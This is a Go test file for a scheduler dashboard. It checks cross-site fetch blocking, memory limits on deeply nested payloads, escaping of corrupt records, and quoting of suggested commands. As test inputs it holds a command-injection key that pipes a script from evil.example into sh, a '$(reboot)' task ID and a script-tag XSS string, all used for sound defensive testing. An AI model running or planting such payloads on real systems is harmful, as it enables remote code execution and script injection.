package dashboard_test

import (
	"context"
	"fmt"
	"net/http"
	"runtime"
	"strconv"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"github.com/hibiken/asynq"
	"go.mongodb.org/mongo-driver/v2/bson"

	"github.com/headway-go/headway/internal/bucket"
	"github.com/headway-go/headway/internal/documents"
	"github.com/headway-go/headway/internal/inside"
	"github.com/headway-go/headway/internal/state"
	"github.com/headway-go/headway/reservations"
	"github.com/headway-go/headway/reservations/memstore"
	"github.com/headway-go/headway/scheduler"
	"github.com/headway-go/headway/tasks"
)

// A page of another site may link to a page, and may not embed one. As an image, a frame or a request in the background
// it would hold streams, or have the services searched.
func TestOtherSitesEmbedNothing(t *testing.T) {
	t.Parallel()
	synctest.Test(t, func(t *testing.T) {
		h := newWorld(t).handler(t)
		for name, try := range map[string]struct {
			site, mode, dest string
			want             int
		}{
			"a link":                {"cross-site", "navigate", "document", 200},
			"a link of a sibling":   {"same-site", "navigate", "document", 200},
			"an address":            {"none", "navigate", "document", 200},
			"the page itself":       {"same-origin", "cors", "empty", 200},
			"a program":             {"", "", "", 200},
			"an image":              {"cross-site", "no-cors", "image", 403},
			"a request":             {"cross-site", "no-cors", "empty", 403},
			"a request with CORS":   {"cross-site", "cors", "empty", 403},
			"a frame":               {"cross-site", "navigate", "iframe", 403},
			"an image of a sibling": {"same-site", "no-cors", "image", 403},
		} {
			for _, path := range []string{"/", "/dead?error=x", "/assets/live.js"} {
				got := send(h, http.MethodGet, path, nil, func(r *http.Request) {
					for header, value := range map[string]string{"Site": try.site, "Mode": try.mode, "Dest": try.dest} {
						if value != "" {
							r.Header.Set("Sec-Fetch-"+header, value)
						}
					}
				})
				if got.Code != try.want {
					t.Errorf("%s at %s: status %d, want %d", name, path, got.Code, try.want)
				}
			}
		}
		ended, cancel := context.WithCancel(t.Context())
		cancel()
		got := send(h, http.MethodGet, "/events?at=/", nil, func(r *http.Request) {
			*r = *r.WithContext(ended)
			r.Header.Set("Sec-Fetch-Site", "cross-site")
		})
		if got.Code != http.StatusForbidden {
			t.Errorf("another site holds a stream: status %d", got.Code)
		}
	})
}

// A payload whose indents would have gigabytes is shown in little memory.
func TestDeepPayloads(t *testing.T) { //nolint:paralleltest // counts allocations of the process
	w := newWorld(t)
	const depth = 8000
	payload := strings.Repeat("[", depth) + strings.Repeat("0,", 100_000) + "0" + strings.Repeat("]", depth)
	client := asynq.NewClientFromRedisClient(w.config.Client)
	task := asynq.NewTask("deep", []byte(payload), asynq.TaskID("deep"))
	if _, err := client.EnqueueContext(t.Context(), task); err != nil {
		t.Fatal(err)
	}
	h := w.handler(t)
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	page := send(h, http.MethodGet, "/task?id=deep", nil)
	runtime.ReadMemStats(&after)
	used := after.TotalAlloc - before.TotalAlloc
	if used > 50<<20 || page.Code != http.StatusOK || page.Body.Len() > 200_000 {
		t.Errorf("status %d, page of %d bytes, %d MB allocated", page.Code, page.Body.Len(), used>>20)
	}
}

// Commands that a page suggests have names in quotes: a tenant chooses its key, and a person copies the command.
func TestSuggestedCommandsAreQuoted(t *testing.T) {
	t.Parallel()
	synctest.Test(t, func(t *testing.T) {
		w := newWorld(t)
		const key = "x; curl evil.example | sh"
		ctx := t.Context()
		charge := reservations.Charge{Limit: "api", Key: key, Tokens: reservations.Tokens{"requests": 60}}
		if _, err := inside.Of(w.config.Reader.Limiter).Block(ctx, charge, time.Minute); err != nil {
			t.Fatal(err)
		}
		if _, err := w.scheduler.Enqueue(ctx, keyed{key}, tasks.Options{ID: "$(reboot)"}); err != nil {
			t.Fatal(err)
		}
		h := w.handler(t)
		page := send(h, http.MethodGet, "/", nil).Body.String()
		if !strings.Contains(page, "headway limits unblock &#39;api:x; curl evil.example | sh&#39;</code>") {
			t.Errorf("the command is not quoted:\n%s", page)
		}
	})
}

// keyed charges a key of the limit "api".
type keyed struct{ Key string }

func (keyed) TaskType() string { return "keyed" }

func (k keyed) Charges() []reservations.Charge {
	return []reservations.Charge{{Limit: "api", Key: k.Key, Tokens: reservations.Tokens{"requests": 60}}}
}

// corrupt is a store one of whose buckets can't be read.
type corrupt struct {
	reservations.Store

	key string
}

func (c corrupt) Update(ctx context.Context, _, _ string, change reservations.Change) error {
	return bucket.Serve(ctx, change, bucket.Applier(c.Store), c.Load)
}

func (c corrupt) Load(ctx context.Context, limit, key string) (bucket.Bucket, time.Time, error) {
	if key == c.key {
		return bucket.Bucket{}, time.Time{}, &bucket.UnavailableError{
			Bucket: key, BucketOnly: true, Err: fmt.Errorf("<b>corrupt</b>%s", strings.Repeat("x", 1<<20)),
		}
	}
	return bucket.Read(ctx, c.Store, limit, key)
}

// One bucket that can't be read is shown as such, beside all others.
func TestCorruptBucketsHideNoOthers(t *testing.T) {
	t.Parallel()
	synctest.Test(t, func(t *testing.T) {
		w := newWorld(t)
		limits := []reservations.Limit{{Name: "api", Meters: []reservations.Meter{reservations.PerMinute("requests", 60)}}}
		limiter, err := reservations.New(corrupt{Store: memstore.New(), key: "evil"}, limits, reservations.Config{})
		if err != nil {
			t.Fatal(err)
		}
		s, err := scheduler.New(w.config.Client, limiter, scheduler.Config{})
		if err != nil {
			t.Fatal(err)
		}
		for i := range 3 {
			for _, key := range []string{"evil", "good"} {
				if _, err = s.Enqueue(t.Context(), keyed{key},
					tasks.Options{ID: key + strconv.Itoa(i)}); err != nil {
					t.Fatal(err)
				}
			}
		}
		w.config.Reader = state.Reader{Limiter: limiter, Scheduler: s}
		h := w.handler(t)
		for _, path := range []string{"/", "/limit"} {
			page := send(h, http.MethodGet, path, nil).Body.String()
			if !strings.Contains(page, `aria-label="Limit api:good"`) ||
				!strings.Contains(page, `aria-label="Limit api:evil"`) ||
				!strings.Contains(page, "&lt;b&gt;corrupt") || len(page) > 100_000 {
				t.Errorf("%s of %d bytes lacks a bucket:\n%.20000s", path, len(page), page)
			}
		}
	})
}

// A history that other programs have spoiled leaves the pages, and is made again.
func TestPoisonedHistory(t *testing.T) {
	t.Parallel()
	synctest.Test(t, func(t *testing.T) {
		const key = "headway:{dashboard}:history"
		w := newWorld(t)
		w.enqueue(t, job{}, job{})
		if err := w.config.Client.Set(t.Context(), key, "x", 0).Err(); err != nil {
			t.Fatal(err)
		}
		h := w.handler(t)
		for _, path := range []string{"/", "/limit", "/limit?name=api"} {
			if got := send(h, http.MethodGet, path, nil); got.Code != http.StatusOK {
				t.Errorf("%s: status %d", path, got.Code)
			}
		}
		w.config.Client.Del(t.Context(), key)
		now := time.Now().Unix()
		for i := range 2000 {
			w.server.Client.HSet(t.Context(), key, strconv.Itoa(i), fmt.Sprintf(
				`{"t":%d,"a":-%d,"n":9223372036854775807,"w":1e9,"b":{"api":{"w":-5,"u":1e308},`+
					`"</svg><script>alert(1)</script>":{}}}`,
				now-int64(i%3000), i))
		}
		w.server.Client.HSet(t.Context(), key, "7", "{", "8", "null", "9", `{"t":"x"}`, "x", "[]",
			"11", `{"t":9223372036854775807}`)
		for _, path := range []string{"/", "/limit", "/limit?name=api"} {
			got := send(w.handler(t), http.MethodGet, path, nil)
			page := got.Body.String()
			if got.Code != http.StatusOK || strings.Contains(page, "<script>alert") || strings.Contains(page, "Inf") ||
				strings.Contains(page, "NaN") || len(page) > 200_000 {
				t.Errorf("%s: status %d, %d bytes", path, got.Code, len(page))
			}
		}
	})
}

// Records that can't be read are passed over.
func TestPoisonedRecords(t *testing.T) {
	t.Parallel()
	synctest.Test(t, func(t *testing.T) {
		w := withRecords(t)
		for i, at := range []any{"never", time.Now().Add(time.Hour)} {
			w.poison(t, "dead", fmt.Sprintf("task-2/%d", i), bson.M{"task": "task-2", "queue": 5, "state": "dead", "at": at})
		}
		h := w.handler(t)
		got := send(h, http.MethodGet, "/dead", nil)
		if page := got.Body.String(); got.Code != http.StatusOK || !strings.Contains(page, ">task-3<") ||
			!strings.Contains(page, "2 records can&#39;t be read") && !strings.Contains(page, "2 records can't be read") {
			t.Errorf("status %d:\n%s", got.Code, page)
		}
		if got = send(h, http.MethodGet, "/task?id=task-2", nil); got.Code != http.StatusOK ||
			!strings.Contains(got.Body.String(), "550 refused 2") {
			t.Errorf("a task with a spoiled record beside it: status %d", got.Code)
		}
	})
}

// The page of a batch says that a failed request can't be read, also if it is the first one.
func TestPoisonedResults(t *testing.T) {
	t.Parallel()
	synctest.Test(t, func(t *testing.T) {
		w := withRecords(t)
		w.batch(t, "file", 4, "api")
		w.poison(t, "results", "abc/000000001", bson.M{"status": "failed", "custom": 5})
		page := send(w.handler(t), http.MethodGet, "/batch?id=abc", nil)
		if page.Code != http.StatusOK || !strings.Contains(page.Body.String(), `<p class="bad-text">`) {
			t.Errorf("status %d:\n%s", page.Code, page.Body)
		}
	})
}

// poison stores a document that can't be read.
func (w *world) poison(t *testing.T, collection, key string, head bson.M) {
	t.Helper()
	err := documents.UpdateOne(t.Context(), w.records.Collection(collection), documents.Change{
		Key: key, Apply: func(d *documents.Document) (_ bool, err error) {
			d.Group, d.At = "dead", time.Now()
			d.Head, err = bson.Marshal(head)
			return true, err
		},
	})
	if err != nil {
		t.Fatal(err)
	}
}
